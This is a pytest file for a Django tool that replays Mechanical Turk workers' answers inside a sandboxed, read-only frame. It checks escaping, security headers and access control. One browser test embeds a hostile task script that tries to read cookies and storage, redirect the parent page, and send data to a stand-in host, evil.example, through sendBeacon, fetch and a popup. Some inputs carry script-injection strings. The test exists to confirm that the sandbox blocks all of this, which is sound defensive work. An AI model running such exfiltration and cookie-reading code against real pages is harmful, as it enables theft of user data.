"""The task as the worker saw it: refilled from every kind of answer, read only, and unable to reach anything."""

import html
import http.server
import json
import mimetypes
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.staticfiles import finders
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dashboard.models import Account, Membership, Role, User
from hits.answers.recorded import load_recorded, recorded_in
from hits.answers.refill import refill
from hits.models import HIT, Assignment, Batch, HITType
from hits.questions import frame
from tests.hits.answers.documents import html_question, named, plain, task_answers

FORM = (
    '<QuestionForm xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2017-11-06/QuestionForm.xsd">'
    "<Overview><FormattedContent><![CDATA[<p onclick='alert(1)'>Read <b>this</b><script>alert(1)</script></p>]]>"
    "</FormattedContent></Overview>"
    "<Question><QuestionIdentifier>colour</QuestionIdentifier><QuestionContent><Text>Which?</Text></QuestionContent>"
    "<AnswerSpecification><SelectionAnswer><Selections>"
    "<Selection><SelectionIdentifier>r</SelectionIdentifier><Text>Red</Text></Selection>"
    "<Selection><SelectionIdentifier>g</SelectionIdentifier><Text>Green</Text></Selection>"
    "<OtherSelection><Length/></OtherSelection></Selections></SelectionAnswer></AnswerSpecification></Question>"
    "<Question><QuestionIdentifier>why</QuestionIdentifier><QuestionContent><Text>Why?</Text></QuestionContent>"
    "<AnswerSpecification><FreeTextAnswer/></AnswerSpecification></Question></QuestionForm>"
)


class Desk:
    """An account with one reviewer, and assignments made of nothing but a question and an answer."""

    def __init__(self) -> None:
        self.account = Account.objects.create(slug="desk", name="Desk", endpoint_url="http://127.0.0.1:1")
        user = User.objects.create(username="reviewer")
        Membership.objects.create(account=self.account, user=user, role=Role.REVIEWER)
        self.client = Client()
        self.client.force_login(user, backend="allauth.account.auth_backends.AuthenticationBackend")
        self.type = HITType.objects.create(account=self.account, hit_type_id="3T", title="A task")
        self.batch = Batch.objects.create(account=self.account, key="type:3T")

    def keep(self, question: str, answer: str, **columns: Any) -> Assignment:
        number, now = Assignment.objects.count(), timezone.now()
        hit = HIT.objects.create(
            account=self.account, hit_id=f"3HIT{number}", hit_type=self.type, batch=self.batch, question=question,
            status="Reviewable", created_at=now,
        )  # fmt: skip
        return Assignment.objects.create(**{
            "account": self.account, "hit": hit, "batch": self.batch, "assignment_id": f"3ASG{number}",
            "worker_id": "AWORKER", "status": "Submitted", "submitted_at": now, "answer": answer,
            "auto_approval_at": now + timedelta(days=1), **columns,
        })  # fmt: skip

    def get(self, name: str, *args: str, **headers: Any) -> Any:
        return self.client.get(reverse(name, args=["desk", *args]), **headers)


@pytest.fixture
def desk(db: Any) -> Desk:
    return Desk()


# --- what is filled in ------------------------------------------------------------------------------------------------


def test_the_three_encodings_give_the_same_tree_and_keep_what_was_posted() -> None:
    plainly = refill(named({"q.one": "a|b", "w": '["1"]', "w2": "1e999"}))
    assert plainly["fields"] == {"q.one": "a|b", "w": '["1"]', "w2": "1e999"}
    value = {"label": "Dog", "left": 1, "top": 2, "width": 30, "height": 40}
    nested = refill(task_answers({"w": {"boundingBoxes": [value]}, "said": '[1, "2"]'}))
    flattened = refill(named({"w.boundingBoxes": json.dumps([value]), "ok.on": "True"}))
    assert nested["tree"] == {"w": {"boundingBoxes": [value]}, "said": '[1, "2"]'}
    assert flattened["tree"] == {"w": {"boundingBoxes": [value]}, "ok": {"on": True}}
    # What a browser's JSON cannot hold must not keep the page from being filled.
    odd = refill(named({"taskAnswers": '[{"a":1e999,"b":' + "[" * 200 + "]" * 200 + "}]"}))
    json.loads(json.dumps(odd, allow_nan=False))
    assert refill("<broken") == {"fields": {}, "tree": {}}


def test_inputs_are_put_into_the_task_and_amazons_scripts_become_ours() -> None:
    text = (
        '<html><head lang="x"><script src="//assets.crowd.aws/v2/crowd-html-elements.js"></script></head>${name} ${no}'
    )
    scripts = {"crowd": "/one.js", "crowd-v2": "/two.js", "external-hit": "/hit.js"}
    made = frame.page(text, scripts=scripts, first="<i></i>", inputs={"name": "Ada"})
    assert made == '<html><head lang="x"><i></i><script src="/two.js"></script></head>Ada ${no}'


def test_a_question_form_is_drawn_with_the_answer_and_without_the_requesters_script(desk: Desk) -> None:
    answer = plain(why="because </textarea><script>alert(1)</script>", colour="g")
    row = desk.keep(FORM, answer)
    response = desk.get("replay_frame", row.assignment_id)
    page = response.content.decode()
    assert 'value="g" checked disabled' in page
    assert "because &lt;/textarea&gt;&lt;script&gt;" in page
    assert "Read <b>this</b>" in page
    assert "alert(1)" not in page.replace("&lt;script&gt;alert(1)&lt;/script&gt;", "")
    assert response["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert "Not answered." in desk.get("replay_frame", desk.keep(FORM, plain(why="x")).assignment_id).content.decode()


# --- whose, and from where ------------------------------------------------------------------------------------------


def test_an_external_question_says_that_it_cannot_be_refilled_and_links_without_a_word(desk: Desk) -> None:
    url = "https://tasks.example/do?item=7"
    question = (
        '<ExternalQuestion xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2006-07-14/'
        f'ExternalQuestion.xsd"><ExternalURL>{url}</ExternalURL><FrameHeight>400</FrameHeight></ExternalQuestion>'
    )
    row = desk.keep(question, plain(a="b"))
    page = desk.get("replay", row.assignment_id).content.decode()
    assert "cannot be refilled here" in page
    assert "<iframe" not in page
    assert f'href="{url}" target="_blank" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer"' in page


def test_the_page_and_the_fragment_show_the_frame_and_say_what_is_wrong(desk: Desk) -> None:
    row = desk.keep(html_question("<input name=a>"), "<broken")
    whole = desk.get("replay", row.assignment_id).content.decode()
    part = desk.get("replay", row.assignment_id, HTTP_HX_REQUEST="true").content.decode()
    assert "<html" in whole
    assert "<html" not in part
    for page in (whole, part):
        assert reverse("replay_frame", args=["desk", row.assignment_id]) in page
        assert 'sandbox="allow-scripts"' in page
        assert "could not be put back" in page
    for name in ("replay", "replay_frame"):
        assert desk.get(name, "3NOSUCH").status_code == 404
        stranger = Client()
        stranger.force_login(
            User.objects.get_or_create(username="stranger")[0],
            backend="allauth.account.auth_backends.AuthenticationBackend",
        )
        assert stranger.get(reverse(name, args=["desk", row.assignment_id])).status_code == 404


# --- in a browser ---------------------------------------------------------------------------------------------------


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """Not the one all tests share: here the browser is meant to complain."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield context.new_page()
    context.close()


class Served:
    """Static files, and pages that were made before: no query can be made while the browser waits."""

    def __init__(self) -> None:
        self.made: dict[str, Any] = {}
        self.posted: list[str] = []
        served = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_POST(self) -> None:
                served.posted.append(self.path)
                self.send_error(404)

            def do_GET(self) -> None:
                file = finders.find(self.path.removeprefix("/static/")) if self.path.startswith("/static/") else None
                found = served.made.get(self.path)
                body = Path(file).read_bytes() if file else found.content if found else b""
                kind = mimetypes.guess_type(self.path)[0] or "text/plain"
                headers = dict(found.items()) if found else {"Content-Type": kind, "Access-Control-Allow-Origin": "*"}
                self.send_response(200 if file or found else 404)
                for name, value in {**headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def frame_of(desk: Desk, page: Any) -> Iterator[Any]:
    """frame_of(assignment) opens the replay's page and gives its frame. `page.asked`: what it asked of other hosts;
    `page.posted`: what it sent to ours."""
    page.asked = []
    served = Served()
    page.posted = served.posted

    def refuse(route: Any) -> None:
        page.asked.append((route.request.method, route.request.url))
        route.abort()

    page.route(lambda url: not url.startswith(f"http://{served.host}/"), refuse)

    def open_it(*rows: Assignment) -> Any:
        insides = []
        for row in rows:
            path = reverse("replay", args=["desk", row.assignment_id])
            served.made[path] = desk.client.get(path, HTTP_HOST=served.host)
            inside = re.search(r'<iframe[^>]* src="([^"]+)"', served.made[path].content.decode())
            assert inside
            insides.append(html.unescape(inside[1]))
            served.made[insides[-1]] = desk.client.get(insides[-1], HTTP_HOST=served.host)
        if len(rows) > 1:
            path = "/all"
            served.made[path] = HttpResponse("".join(f'<iframe src="{html.escape(url)}"></iframe>' for url in insides))
        page.goto(f"http://{served.host}{path}")
        page.wait_for_timeout(300)  # a page's own scripts come first, on and after its load
        found = [next(frame for frame in page.frames if frame.url.endswith(url)) for url in insides]
        return found if len(found) > 1 else found[0]

    yield open_it
    served.server.shutdown()
    served.server.server_close()


CONTROLS = """<crowd-form><p>Task</p>
<input name="line"><textarea name="area"></textarea><input type="hidden" name="echo" value="x">
<select name="menu"><option value="1">One<option value="2">Two</select>
<input type="radio" name="r" value="yes"><input type="radio" name="r" value="no">
<input type="checkbox" name="many" value="a"><input type="checkbox" name="many" value="b" checked>
<input type="checkbox" name="one"><input type="range" name="how" min="0" max="10"><input name="late" type="hidden">
<crowd-input name="ci"></crowd-input><crowd-slider name="cs" max="10"></crowd-slider>
<crowd-checkbox name="cc" value="dim">dim</crowd-checkbox>
<crowd-classifier name="k" header="h" categories="['Pos','Neg']"></crowd-classifier>
<crowd-bounding-box name="w" labels="['Dog']" src="https://gone.example/x.png"></crowd-bounding-box></crowd-form>
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>"""
FILLED = """() => { const q = (s) => document.querySelector(s); return {
  line: q('[name=line]').value, area: q('[name=area]').value, menu: q('[name=menu]').value,
  r: [...document.querySelectorAll('[name=r]')].map((e) => e.checked),
  many: [...document.querySelectorAll('[name=many]')].map((e) => e.checked), one: q('[name=one]').checked,
  how: q('[name=how]').value, ci: q('crowd-input').value, cs: q('crowd-slider').value, cc: q('crowd-checkbox').checked,
  k: q('crowd-classifier').draft.labels, w: q('crowd-bounding-box').shapes.map((b) => [b.label, b.left]) } }"""
EXPECTED = {
    "line": "a \"b\" <i>'", "area": "x\ny", "menu": "2", "r": [False, True], "many": [True, False], "one": True,
    "how": "7", "ci": "hello", "cs": 4, "cc": True, "k": ["Neg"], "w": [["Dog", 5]],
}  # fmt: skip
BOX = {
    "boundingBoxes": [{"label": "Dog", "left": 5, "top": 6, "width": 30, "height": 20}],
    "inputImageProperties": {"height": 100, "width": 200},
}
POSTED = {
    "line": EXPECTED["line"], "area": "x\ny", "menu": "2", "how": "7", "ci": "hello", "late": "{}",
}  # fmt: skip
PLAIN = {**POSTED, "r": "no", "many": "a", "one": "on", "cs": "4", "cc": "dim", "k": '{"label":"Neg"}'}
TREE = {
    **POSTED, "r": {"yes": False, "no": True}, "many": {"a": True, "b": False}, "one": {"on": True}, "cs": 4,
    "cc": {"dim": True}, "k": {"label": "Neg"}, "w": BOX,
}  # fmt: skip


#: What a task did not take over of an answer.
LOST = """(tree) => Object.entries(tree).flatMap(([name, value]) =>
 [...document.getElementsByName(name)].filter((field) => {
  const list = ['boundingBoxes', 'polygons', 'polylines', 'lines', 'keypoints'].find((key) => value && value[key]);
  if (field.localName.includes('-') && field.hitdeskFilled !== true) return true;
  if (list) return field.shapes.length !== value[list].length;
  if (value?.entities) return field.text && field.value.entities.length !== value.entities.length;
  if (value?.labelMappings || value?.instances) return !field.entries?.length;
  return field.type === 'text' && typeof value === 'string' && value !== '{}' && field.value !== value;
}).map((field) => `${name}: ${field.localName}`))"""


def flat(tree: dict[str, Any]) -> dict[str, str]:
    """As `answer-format="flatten-objects"` writes it."""
    fields: dict[str, str] = {}
    for name, value in tree.items():
        if isinstance(value, dict):
            fields |= {f"{name}.{key}": text for key, text in flat(value).items()}
        else:
            fields[name] = value if isinstance(value, str) else json.dumps(value)
    return fields


@pytest.mark.browser
def test_every_encoding_is_put_back_into_every_control_and_cannot_be_changed(desk: Desk, frame_of: Any) -> None:
    question = html_question(CONTROLS)
    for answer in (named({**PLAIN, "w": json.dumps(BOX)}), task_answers(TREE), named(flat(TREE))):
        inner = frame_of(desk.keep(question, answer))
        assert inner.evaluate(FILLED) == EXPECTED
    page = inner.page
    for place in ("[name=one]", "[name=r][value=yes]", "[name=line]", "crowd-checkbox", "crowd-classifier label"):
        inner.locator(place).first.click(force=True)
        page.keyboard.type("zz")
        page.keyboard.press("Delete")
    inner.locator("crowd-bounding-box").scroll_into_view_if_needed()
    stage = inner.locator("crowd-bounding-box .stage").bounding_box()
    page.mouse.move(stage["x"] + 90, stage["y"] + 60)
    page.mouse.down()
    page.mouse.move(stage["x"] + 160, stage["y"] + 120, steps=3)
    page.mouse.up()
    page.keyboard.press("Delete")
    inner.get_by_role("button", name="Submit").click(force=True)
    inner.evaluate("document.querySelector('crowd-form').submit()")
    inner.wait_for_timeout(200)
    assert inner.evaluate(FILLED) == EXPECTED
    assert "/replay/frame/" in inner.url
    assert ([method for method, _ in page.asked if method != "GET"], page.posted) == ([], [])


@pytest.mark.browser
def test_a_hostile_task_reaches_nothing_and_every_recording_goes_back_into_its_task(
    desk: Desk, frame_of: Any, samples: Path
) -> None:
    attack = """<form id=f method=post action="https://www.mturk.com/mturk/externalSubmit"><input name=a></form><script>
    const tried = window.tried = {};
    const attempt = (name, act) => { try { tried[name] = String(act()); } catch (error) { tried[name] = error.name; } };
    attempt('cookie', () => document.cookie); attempt('storage', () => localStorage.length);
    attempt('parent', () => parent.document.title); attempt('top', () => { top.location = 'https://evil.example/'; });
    attempt('submit', () => document.getElementById('f').submit());
    attempt('popup', () => String(window.open('https://evil.example/popup')));
    attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
    const call = new XMLHttpRequest(); attempt('xhr', () => { call.open('POST', '/a/desk/', false); call.send('x'); });
    const post = { method: 'POST', body: 'x', mode: 'no-cors' };
    fetch('https://evil.example/fetch', post).catch(() => { tried.fetch = 'refused'; });
    parent.postMessage({ hitdesk: 1, kind: 'missing', url: 'https://evil.example/<b>' }, '*');
    </script>"""
    inner = frame_of(desk.keep(html_question(attack), plain(a="</script><script>window.escaped = 1</script>")))
    assert inner.evaluate("tried") == {
        "cookie": "SecurityError", "storage": "SecurityError", "parent": "SecurityError", "top": "SecurityError",
        "submit": "undefined", "popup": "null", "beacon": "true", "xhr": "NetworkError", "fetch": "refused",
    }  # fmt: skip
    assert inner.evaluate("[window.escaped, document.querySelector('[name=a]').value]") == [
        None,
        "</script><script>window.escaped = 1</script>",
    ]
    page = inner.page
    assert page.url.endswith(reverse("replay", args=["desk", "3ASG0"]))
    assert (page.asked, page.posted) == ([], [])
    assert "evil" not in page.locator("main").inner_text()
    recordings = [(path.name, load_recorded(path)) for path in recorded_in(samples)]
    rows = [desk.keep(recorded.question_xml, recorded.answer_xml) for _, recorded in recordings]
    lost = {
        name: found
        for (name, _), row, inner in zip(recordings, rows, frame_of(*rows), strict=True)
        if (found := inner.evaluate(LOST, refill(row.answer)["tree"]))
    }
    assert lost == {}
